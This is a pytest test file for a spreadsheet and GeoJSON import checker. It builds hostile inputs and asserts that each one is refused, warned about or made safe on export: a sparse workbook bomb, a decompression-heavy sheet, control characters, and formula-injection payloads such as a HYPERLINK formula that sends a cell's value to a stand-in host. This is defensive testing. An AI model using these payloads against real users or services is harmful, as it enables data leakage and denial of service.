"""A corpus of hostile and unlucky files, generated here, each with the exact outcome it must get:
a sparse bomb, decompression-heavy sheets, formula payloads, control characters, Unicode digits,
an over-long cell. Nothing may crash the checker, reach the store half-done, or leave an export
with a live formula."""

from __future__ import annotations

import io
import json
import zipfile

import openpyxl
import pandas as pd
import pytest
import shapely
import shapely.affinity

from analytics.ingest import isolation
from analytics.ingest import pipeline as ingest
from analytics.reports.exports import excel_bytes
from tests.import_helpers import as_text, check, csv_bytes, one, problems, sample, xlsx_bytes

HEADER = ["户编号", "年度", "村代码", "户主姓名"]


def _sparse(last_cell: str) -> bytes:
    """A few-KB workbook: a header and one value at `last_cell`, nothing in between."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "农户"
    ws.append(HEADER)
    ws[last_cell] = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _households(tmp_path, demo_tables, demo_store, column: str, row: int, value: str) -> ingest.Checked:
    text = as_text(sample(demo_tables, n=12), "households")
    text.loc[row - 2, column] = value
    return check(tmp_path, {"农户.csv": csv_bytes(text)}, demo_store)


# --- bounded reading -------------------------------------------------------------------------
def test_the_xfd1048576_sparse_bomb_is_refused_before_parsing(tmp_path, demo_store):
    data = _sparse("XFD1048576")
    assert len(data) < 10_000
    checked = check(tmp_path, {"bomb.xlsx": data}, demo_store)
    problem = one(checked, "工作表的范围到 XFD1048576(1,048,576 行 × 16,384 列),超过导入上限")
    assert (problem["file"], problem["sheet"]) == ("bomb.xlsx", "农户")
    assert not checked.ok and checked.tables == {}


def test_a_sheet_within_the_columns_but_too_big_to_hold_ends_only_its_child(tmp_path, demo_store, monkeypatch):
    """A range the scan lets through (300 columns × 1,000,000 rows) but no parser can hold: the
    child process dies on its memory cap, the checker names the file and goes on."""
    checked = check(tmp_path, {"wide.xlsx": _sparse("KN1000000"), "村.csv": b"x"}, demo_store)
    problem = one(checked, "读取这个文件所需的内存超过上限")
    assert problem["file"] == "wide.xlsx"
    assert set(problems(checked)["file"]) == {"wide.xlsx", "村.csv"}  # the next file was still read
    assert not checked.ok


def test_an_archive_that_unpacks_beyond_the_limit_is_refused(tmp_path, demo_store, monkeypatch):
    """A decompression-heavy sheet: a 30 MB cell compresses to some 30 KB."""
    rows = '<row r="2"><c r="A2" t="inlineStr"><is><t>' + "a" * 30_000_000 + "</t></is></c></row>"
    source = io.BytesIO(xlsx_bytes({"农户": [HEADER]}))
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
            new.writestr(item, data)
    data = out.getvalue()
    monkeypatch.setitem(ingest.settings.load(), "import.max_uncompressed_mb", 20)
    checked = check(tmp_path, {"heavy.xlsx": data}, demo_store)
    assert len(data) < 100_000
    problem = one(checked, "超过导入上限 20 MB(import.max_uncompressed_mb)")
    assert problem["file"] == "heavy.xlsx" and "文件解压后有" in problem["reason"]


def test_the_scan_reads_the_declared_dimension_and_the_cells(tmp_path):
    path = tmp_path / "a.xlsx"
    path.write_bytes(_sparse("C70000"))
    with zipfile.ZipFile(path) as archive:
        assert isolation._extent(archive, "xl/worksheets/sheet1.xml") == (70000, 4)
    assert isolation.column_number("XFD") == 16384


# --- text cells ------------------------------------------------------------------------------
@pytest.mark.parametrize(("char", "name"), [("\x0b", "垂直制表符(U+000B)"), ("\x1b", "转义符 ESC(U+001B)"),
                                            ("\x01", "控制字符(U+0001)"), ("\x7f", "删除符 DEL(U+007F)")])
def test_a_control_character_is_an_error_naming_the_cell_and_the_character(
        tmp_path, demo_tables, demo_store, char, name):
    checked = _households(tmp_path, demo_tables, demo_store, "户主姓名", 5, f"王{char}明")
    problem = one(checked, f"含有不可见的{name}")
    assert (problem["file"], problem["row"], problem["column"]) == ("农户.csv", 5, "户主姓名")
    assert not checked.ok and checked.tables == {}


def test_a_nul_after_the_first_64_kb_is_refused_too(tmp_path, demo_tables, demo_store):
    text = as_text(sample(demo_tables, n=12), "households")
    text.loc[8, "户主姓名"] = "王" + "x" * 70_000
    text.loc[9, "户主姓名"] = "李\x00四"
    checked = check(tmp_path, {"农户.csv": csv_bytes(text)}, demo_store)
    assert one(checked, "空字符(U+0000)")["row"] == 11
    assert not checked.ok


def test_an_over_long_cell_is_a_row_level_error(tmp_path, demo_tables, demo_store):
    checked = _households(tmp_path, demo_tables, demo_store, "户主姓名", 6, "长" * 200_000)
    problem = one(checked, "单元格有 200000 个字符,超过上限 32,767 个")
    assert (problem["file"], problem["row"], problem["column"]) == ("农户.csv", 6, "户主姓名")
    assert not any(problems(checked)["reason"].str.contains(ingest.INTERNAL))


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://example.invalid/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)"])
def test_a_formula_payload_imports_as_text_with_a_warning(tmp_path, demo_tables, demo_store, payload):
    checked = _households(tmp_path, demo_tables, demo_store, "户主姓名", 4, payload)
    problem = one(checked, "电子表格可能把它当作公式", level="警告")
    assert (problem["row"], problem["column"], problem["value"]) == (4, "户主姓名", payload)
    assert checked.ok
    assert payload in set(checked.tables["households"]["head_name"])


def test_full_width_digits_in_a_code_become_ascii_with_a_warning(tmp_path, demo_tables, demo_store):
    code = sample(demo_tables, n=12)["village_code"].iloc[1]
    wide = code.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    checked = _households(tmp_path, demo_tables, demo_store, "村代码", 3, wide)
    problem = one(checked, "代码中有全角数字,已换成半角数字", level="警告")
    assert (problem["row"], problem["value"]) == (3, wide)
    assert checked.ok and code in set(checked.tables["households"]["village_code"])
    assert wide not in set(checked.tables["households"]["village_code"])


@pytest.mark.parametrize("digits", ["٩٩٠١", "९९०१", "𝟗𝟗𝟎𝟏"])
def test_other_unicode_digits_in_a_code_are_refused(tmp_path, demo_tables, demo_store, digits):
    code = sample(demo_tables, n=12)["village_code"].iloc[1]
    checked = _households(tmp_path, demo_tables, demo_store, "村代码", 3, digits + code[4:])
    problem = one(checked, "代码只能由半角数字 0-9 组成")
    assert (problem["row"], problem["column"]) == (3, "村代码")
    assert not checked.ok


def test_an_id_number_in_other_digits_is_refused(tmp_path, demo_tables, demo_store):
    good = sample(demo_tables, n=12)["head_id_number"].iloc[2]
    arabic = good[:17].translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")) + good[17]
    checked = _households(tmp_path, demo_tables, demo_store, "户主证件号码", 4, arabic)
    assert one(checked, "前 17 位应为数字")["row"] == 4


# --- exports ---------------------------------------------------------------------------------
def _sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def test_an_export_writes_formula_payloads_as_quoted_text_and_drops_what_excel_cannot_hold():
    frame = pd.DataFrame({"project_name": ['=HYPERLINK("http://x/?"&A1,"点我")', "+1", "a\x0bb\x1b\x00", "普通"],
                          "head_name": ["=1+1", "王小明", "李四", "张三"]})
    data = excel_bytes(frame, "项目", "全县")
    assert "<f>" not in _sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for c in ws["A"][4:]}
    assert cells['=HYPERLINK("http://x/?"&A1,"点我")'].data_type == "s"
    assert cells['=HYPERLINK("http://x/?"&A1,"点我")'].quotePrefix and cells["+1"].quotePrefix
    assert "ab" in cells and not cells["普通"].quotePrefix
    assert ws["B5"].value == "=**1" and ws["B5"].data_type == "s"  # masked, and still text


# --- boundaries ------------------------------------------------------------------------------
def _boundaries_geojson(frame, crs: str | None) -> bytes:
    doc = json.loads(frame.to_json())
    doc.pop("crs", None)
    if crs:
        doc["crs"] = {"type": "name", "properties": {"name": crs}}
    return json.dumps(doc).encode()


def test_degree_coordinates_declared_as_epsg_3857_are_refused(tmp_path, demo_tables, demo_store):
    data = _boundaries_geojson(demo_tables["boundaries"], "EPSG:3857")  # degrees, said to be metres
    checked = check(tmp_path, {"村界.geojson": data}, demo_store)
    problem = one(checked, "换算后不在中国境内")
    assert problem["file"] == "村界.geojson" and "EPSG:3857" in problem["reason"]
    n = len(demo_tables["boundaries"])
    assert problem["reason"].startswith(f"{n:,} / {n:,} 个村界")
    assert not checked.ok


def test_boundaries_shifted_ten_degrees_east_get_a_warning(tmp_path, demo_tables, demo_store):
    shifted = demo_tables["boundaries"].copy()
    shifted = shifted.set_geometry(shifted.geometry.translate(xoff=10))
    checked = check(tmp_path, {"村界.geojson": _boundaries_geojson(shifted, None)}, demo_store,
                    ingest.Options(crs="wgs84"))
    problem = one(checked, "新村界的范围与当前村界只重合 0%", level="警告")
    assert problem["file"] == "村界.geojson"
    assert checked.ok  # a warning: the operator may be replacing the county's boundaries on purpose


def test_a_degenerate_polygon_is_an_error_naming_the_feature(tmp_path, demo_tables, demo_store):
    frame = demo_tables["boundaries"].copy()
    first = frame.geometry.iloc[2]
    frame.loc[frame.index[2], "geometry"] = shapely.affinity.scale(first, 1e-5, 1e-5)
    checked = check(tmp_path, {"村界.geojson": _boundaries_geojson(frame, None)}, demo_store,
                    ingest.Options(crs="wgs84"))
    problem = one(checked, "面积几乎为零")
    assert problem["row"] == 3 and problem["file"] == "村界.geojson"
    assert not checked.ok


def test_the_isolated_reader_does_not_run_the_parents_main_script(tmp_path, monkeypatch):
    """Under AppTest the parent's __main__ is a page or a temporary script: a child that imported it
    again died, and every Excel or boundary file read as 'over the memory limit'."""
    import sys
    import types

    import geopandas as gpd
    import shapely

    from analytics.ingest import isolation
    from analytics.ingest.report import Report

    script = types.ModuleType("__main__")
    script.__file__, script.__spec__ = str(tmp_path / "gone_script.py"), None
    monkeypatch.setitem(sys.modules, "__main__", script)
    path = tmp_path / "村界.geojson"
    gpd.GeoDataFrame({"village_code": ["990121100201"]}, geometry=[shapely.box(107, 26, 107.1, 26.1)],
                     crs=4326).to_file(path)
    report = Report()
    sheets = isolation.read_isolated(path, "村界.geojson", "declared", report)
    assert len(sheets) == 1 and report.ok, [p.reason for p in report.problems]
